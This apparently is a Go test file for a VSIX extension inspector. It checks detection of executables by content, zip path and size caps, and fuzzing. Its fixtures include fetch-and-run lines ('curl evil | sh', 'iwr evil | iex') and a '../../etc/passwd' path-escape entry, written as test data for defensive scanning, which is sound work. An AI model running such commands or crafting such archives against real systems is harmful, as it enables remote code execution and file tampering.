package contentdigest_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/extguard/extguard/adapters/contentdigest"
)

func TestInspectVSIXFindsManifestAndExecutablesByContent(t *testing.T) {
	zr := buildVSIX(t, map[string]string{
		"package.json":                  `{"name":"x","main":"./out/main.js"}`,
		"out/main.js":                   "exports.activate = () => {}\n",
		"bin/helper":                    "\x7fELF\x02\x01\x01",
		"bin/helper.exe":                "not really a PE",
		"native/addon.node":             "anything",
		"tools/mac":                     "\xcf\xfa\xed\xfe....",
		"tools/win.dat":                 "MZ\x90\x00",
		"scripts/run.txt":               "#!/bin/sh\ncurl evil | sh\n",
		"images/icon.png":               "\x89PNG",
		"scripts/install.sh":            "curl evil | sh\n",
		"scripts/setup.PS1":             "iwr evil | iex\n",
		"scripts/readme.md":             "run install.sh\n",
		"empty":                         "",
		"node_modules/ok/package.json":  "{}",
		"node_modules/bad/build/x.NODE": "",
	})
	in, err := contentdigest.InspectVSIX(zr, contentdigest.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if string(in.Manifest) != `{"name":"x","main":"./out/main.js"}` {
		t.Fatalf("manifest %q", in.Manifest)
	}
	want := "bin/helper,native/addon.node,node_modules/bad/build/x.NODE,scripts/install.sh,scripts/run.txt,scripts/setup.PS1,tools/mac,tools/win.dat"
	if got := strings.Join(in.Executables, ","); got != want {
		t.Fatalf("executables %s, want %s", got, want)
	}
}

// The inspection keeps the VSIX reader's caps: unsafe names and too many or
// too large entries are refused before any content is read.
func TestInspectVSIXKeepsTheCaps(t *testing.T) {
	escape := buildZip(t, []zipEntry{{"extension/package.json", "{}"}, {"extension/../../etc/passwd", "x"}})
	if _, err := contentdigest.InspectVSIX(escape, contentdigest.Limits{}); !errors.Is(err, contentdigest.ErrUnsafePath) {
		t.Fatalf("path escape: %v", err)
	}
	many := buildVSIX(t, map[string]string{"a": "1", "b": "2", "c": "3"})
	if _, err := contentdigest.InspectVSIX(many, contentdigest.Limits{MaxFiles: 2}); !errors.Is(err, contentdigest.ErrTooManyFiles) {
		t.Fatalf("entries: %v", err)
	}
	big := buildVSIX(t, map[string]string{"package.json": strings.Repeat(" ", 2048)})
	if _, err := contentdigest.InspectVSIX(big, contentdigest.Limits{MaxFileBytes: 1024}); !errors.Is(err, contentdigest.ErrTooLarge) {
		t.Fatalf("size: %v", err)
	}
}

// FuzzInspectVSIX: any bytes that open as a zip are inspected or refused,
// never a panic, and what is listed is bounded and under extension/.
func FuzzInspectVSIX(f *testing.F) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{"extension/package.json": `{"main":"a"}`, "extension/a.node": "\x7fELF", "extension.vsixmanifest": "<x/>"} {
		w, _ := zw.Create(name)
		w.Write([]byte(body))
	}
	zw.Close()
	f.Add(buf.Bytes())
	f.Add([]byte("PK\x05\x06" + strings.Repeat("\x00", 18)))
	f.Fuzz(func(t *testing.T, b []byte) {
		zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
		if err != nil {
			return
		}
		in, err := contentdigest.InspectVSIX(zr, contentdigest.Limits{MaxFiles: 50, MaxFileBytes: 1 << 16, MaxTotalBytes: 1 << 20})
		if err != nil {
			return
		}
		if len(in.Executables) > contentdigest.MaxListedExecutables || len(in.Manifest) > 16<<20 {
			t.Fatalf("unbounded inspection: %d executables, %d manifest bytes", len(in.Executables), len(in.Manifest))
		}
	})
}
